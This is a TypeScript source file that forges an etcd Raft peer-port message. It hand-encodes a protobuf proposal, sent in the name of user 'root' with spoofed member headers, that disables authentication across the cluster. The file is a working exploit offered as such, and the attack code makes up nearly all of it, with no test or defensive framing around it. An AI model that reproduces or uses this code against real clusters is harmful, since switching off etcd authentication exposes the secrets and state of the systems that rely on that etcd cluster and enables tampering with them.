/** A message as etcd's members send it to each other, which none of them has sent. */
import { randomBytes } from "node:crypto";

/** An HTTP request for a member's peer port. */
export interface Forged {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Buffer;
}

/**
 * Proposes to the quorum, in the name of its user `root`, that passwords count no more. A member
 * that takes it hands it to the leader; no password is asked for among members.
 * @param cluster the cluster's number, in hexadecimal digits, as `etcdctl member list -w json --hex` has it
 */
export function forgedAuthDisable(cluster: string): Forged {
  // etcd's own definitions: InternalRaftRequest, in an Entry, in a Message of the type MsgProp
  const header = [number(1, randomBytes(4).readUInt32BE()), bytes(2, Buffer.from("root"))];
  const request = [bytes(100, Buffer.concat(header)), bytes(1011, Buffer.alloc(0))];
  const entry = bytes(4, Buffer.concat(request));
  return {
    path: "/raft",
    headers: {
      "Content-Type": "application/protobuf",
      "X-Etcd-Cluster-ID": cluster,
      "X-Server-From": "1",
      "X-Server-Version": "3.5.16",
      "X-Min-Cluster-Version": "3.0.0",
      "X-Raft-To": "1",
    },
    body: Buffer.concat([number(1, 2), bytes(7, entry)]),
  };
}

function number(field: number, value: number): Buffer {
  return Buffer.concat([varint(field * 8), varint(value)]);
}

function bytes(field: number, value: Buffer): Buffer {
  return Buffer.concat([varint(field * 8 + 2), varint(value.length), value]);
}

/** Protocol Buffers' variable-length number. */
function varint(value: number): Buffer {
  const octets: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    octets.push(rest < 128 ? rest : (rest % 128) + 128);
    if (rest < 128) return Buffer.from(octets);
  }
}
